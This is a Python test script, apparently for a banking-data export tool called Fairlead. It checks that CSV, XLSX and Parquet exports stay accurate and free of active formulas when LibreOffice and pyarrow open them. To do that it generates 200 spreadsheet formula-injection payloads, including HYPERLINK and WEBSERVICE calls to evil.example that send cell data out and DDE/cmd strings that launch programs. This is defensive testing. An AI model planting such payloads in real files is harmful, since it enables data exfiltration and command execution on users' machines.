"""Exports as other programs read them: LibreOffice for CSV and XLSX, pyarrow for Parquet, Python for the rest.

Run by `cargo xtask exports [--rows N]`. Bank texts are 200 strings that try to become formulas. Sums are compared with what the sandbox says it
holds, never with what Fairlead says. A program that is not here is skipped, and the line says so.
"""

import atexit
import csv
import itertools
import json
import os
import shutil
import subprocess
import sys
import tempfile
import time
import xml.etree.ElementTree as xml
from collections import defaultdict
from decimal import Decimal

PEAK_MIB = 150
TRANSACTIONS = "GET /companies/*/connections/*/data/banking-transactions"
STARTS = ["=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\u00a0=", "\ufeff=", "\u200b=", "\u202e=", "\uff1d", "\uff0b", "\uff0d", "\uff20"]
BODIES = [
    'HYPERLINK("http://evil.example/?q="&A1,"Rent")', "cmd|'/C calc'!A0", "SUM(1+1)*cmd|'/C calc'!A0", 'WEBSERVICE("http://evil.example/")', "1+1", "A1", "2+5+cmd",
    'IMPORTXML("http://evil.example","//a")', "DDE(\"cmd\";\"/C calc\";\"x\")", '"";=1+1', "EXEC(\"calc\")", '1;"=1+1"', "-1+1",
]
HOSTILE = [start + body for start, body in itertools.product(STARTS, BODIES)][:200]

failed = []


def check(holds, what):
    print(f"{'ok    ' if holds else 'FAIL  '}{what}", flush=True)
    if not holds:
        failed.append(what)


class World:
    """A sandbox, and one computer with a profile on it."""

    def __init__(self, fairlead, folder, companies, transactions, months, rules):
        self.fairlead, self.folder = fairlead, folder
        script, passphrase = os.path.join(folder, "faults.json"), os.path.join(folder, "passphrase")
        with open(script, "w") as out:
            json.dump(rules, out)
        with open(passphrase, "w") as out:
            out.write("a passphrase of this check\n")
        os.chmod(passphrase, 0o600)
        args = ["--companies", companies, "--accounts", 1, "--transactions", transactions, "--months", months, "--script", script]
        self.sandbox = subprocess.Popen([fairlead, "sandbox", *map(str, args)], stdout=subprocess.PIPE, text=True)
        atexit.register(self.sandbox.kill)
        place = json.loads(self.sandbox.stdout.readline())
        self.control = place["controlUrl"]
        self.all = ["--json", "--home", os.path.join(folder, "home"), "--vault", f"passphrase-file={passphrase}"]
        self.run(["profile", "add", "test", "--key-stdin", "--sandbox-url", place["baseUrl"]], place["apiKey"])
        self.run(["sync", "--all"])
        digest = self.ask("digest")
        self.sums, self.rows = defaultdict(Decimal), 0
        for line in digest["results"] if isinstance(digest, dict) else digest:
            self.rows += line["transactions"]
            for currency, total in line["sums"].items():
                self.sums[currency] += Decimal(total)
        self.company = self.run(["companies"])[0]["id"]

    def ask(self, what):
        from urllib.request import urlopen

        with urlopen(f"{self.control}/{what}", timeout=600) as answer:
            return json.load(answer, parse_float=Decimal)

    def run(self, args, typed=""):
        done = subprocess.run([self.fairlead, *args, *self.all], input=typed, capture_output=True, text=True)
        if done.returncode:
            sys.exit(f"fairlead {' '.join(args)} ended with {done.returncode}: {done.stdout}{done.stderr}")
        return json.loads(done.stdout)

    def export(self, form):
        """The file, and the most memory that the program held while it wrote it, in MiB."""
        out = os.path.join(self.folder, f"rows.{form}")
        args = ["export", self.company, "--format", form, "--out", out, *self.all]
        program, peak = subprocess.Popen([self.fairlead, *args], stdout=subprocess.PIPE, text=True), 0
        while program.poll() is None:
            try:
                with open(f"/proc/{program.pid}/status") as status:
                    peak = max([peak, *(int(line.split()[1]) for line in status if line.startswith("VmHWM"))])
            except OSError:
                pass
            time.sleep(0.02)
        if program.returncode:
            sys.exit(f"the export as {form} ended with {program.returncode}: {program.stdout.read()}")
        return out, peak / 1024

    def end(self):
        self.sandbox.kill()
        self.sandbox.wait()

    def agrees(self, sums, rows, what):
        same = {currency: total for currency, total in sums.items() if total or currency in self.sums} == dict(self.sums)
        check(same and rows == self.rows, f"{what}: {rows} rows, sums {', '.join(f'{total} {currency}' for currency, total in sorted(sums.items()))}")


def in_libreoffice(office, path, folder):
    """The cells of the first sheet as LibreOffice has them (value or text), and how many are formulas."""
    profile = f"-env:UserInstallation=file://{folder}/office"
    how = ["--infilter=CSV:44,34,76,1,,2057,false,true,false,false,false,-1,true"] if path.endswith(".csv") else []
    subprocess.run([office, profile, "--headless", *how, "--convert-to", "fods", "--outdir", folder, path], check=True, capture_output=True, timeout=900)
    space = {"table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0", "office": "urn:oasis:names:tc:opendocument:xmlns:office:1.0", "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0"}
    of = lambda prefix, name: f"{{{space[prefix]}}}{name}"
    sheet = xml.parse(os.path.splitext(path)[0] + ".fods").find(f".//{of('table', 'table')}")
    rows, formulas = [], 0
    for row in sheet.iter(of("table", "table-row")):
        cells = []
        for cell in row:
            if cell.tag not in (of("table", "table-cell"), of("table", "covered-table-cell")):
                continue
            # LibreOffice writes a boolean of a workbook down as a call that gives it.
            formulas += cell.get(of("table", "formula"), "") not in ("", "of:=FALSE()", "of:=TRUE()")
            text = "\n".join("".join(line.itertext()) for line in cell.iter(of("text", "p")))
            value = cell.get(of("office", "value"), text)
            cells += [value] * min(int(cell.get(of("table", "number-columns-repeated"), 1)), 50)
        if any(cells):
            rows.append(cells)
    return rows, formulas


def sums_of(rows):
    head, sums = rows[0], defaultdict(Decimal)
    amount, currency = head.index("amount"), head.index("currency")
    for row in rows[1:]:
        sums[row[currency]] += Decimal(row[amount])
    return dict(sums)


def small(fairlead, folder):
    world = World(fairlead, folder, 1, 400, 12, [{"match": TRANSACTIONS, "fault": {"kind": "texts", "texts": HOSTILE}}])
    fired = world.ask("faults")["fired"]
    check(len(set(HOSTILE)) == 200 and fired > 0 and world.rows >= 200, f"{len(HOSTILE)} hostile strings stand in {world.rows} rows; the fault fired {fired} times")
    office = shutil.which("soffice") or shutil.which("libreoffice")
    if office:
        control = os.path.join(folder, "control.csv")
        with open(control, "w", newline="") as out:
            csv.writer(out).writerows([["a"], ["=1+1"], ["=2+2"]])
        _, formulas = in_libreoffice(office, control, folder)
        check(formulas == 2, f"control: LibreOffice makes {formulas} of 2 bare formulas of a CSV active")
        for form in ["csv", "xlsx"]:
            rows, formulas = in_libreoffice(office, world.export(form)[0], folder)
            check(formulas == 0, f"{form} in LibreOffice: {formulas} active formulas")
            world.agrees(sums_of(rows), len(rows) - 1, f"{form} in LibreOffice")
    else:
        print("skipped: LibreOffice is not here, so CSV and XLSX were opened by nobody (apt install libreoffice-calc)")
    in_pyarrow(world, world.export("parquet")[0])
    world.end()


def in_pyarrow(world, path):
    try:
        import pyarrow
        import pyarrow.compute as compute
        import pyarrow.parquet as parquet
    except ImportError:
        print("skipped: pyarrow is not here, so Parquet was opened by nobody (pip install pyarrow)")
        return
    table = parquet.read_table(path)
    kind = table.schema.field("amount").type
    check(pyarrow.types.is_decimal(kind), f"parquet in pyarrow: the amount is a {kind}")
    grouped = table.group_by("currency").aggregate([("amount", "sum")])
    sums = dict(zip(grouped["currency"].to_pylist(), grouped["amount_sum"].to_pylist()))
    world.agrees(sums, table.num_rows, "parquet in pyarrow")


def large(fairlead, folder, rows):
    began = time.monotonic()
    world = World(fairlead, folder, 1, rows, 36, [])
    check(world.rows >= rows, f"{world.rows} rows are here after {time.monotonic() - began:.0f} s")
    for form in ["csv", "xlsx", "jsonl", "parquet"]:
        began = time.monotonic()
        path, peak = world.export(form)
        size = os.path.getsize(path) / 2**20
        check(0 < peak <= PEAK_MIB, f"{world.rows} rows as {form}: {peak:.0f} MiB at most (at most {PEAK_MIB}), {size:.0f} MiB on disk, {time.monotonic() - began:.0f} s")
        if form == "csv":
            with open(path, newline="") as file:
                lines, sums, count = csv.DictReader(file), defaultdict(Decimal), 0
                for line in lines:
                    sums[line["currency"]] += Decimal(line["amount"])
                    count += 1
            world.agrees(sums, count, "the same csv read again")
        elif form == "parquet":
            in_pyarrow(world, path)
        os.remove(path)
    world.end()


def main():
    fairlead, rows = sys.argv[1], int(sys.argv[2])
    for check_one in [small, lambda *at: large(*at, rows)]:
        with tempfile.TemporaryDirectory(prefix="fairlead-exports-") as folder:
            check_one(fairlead, folder)
    print(f"{len(failed)} failed" if failed else "every export is read by others as it was written")
    sys.exit(1 if failed else 0)


if __name__ == "__main__":
    main()
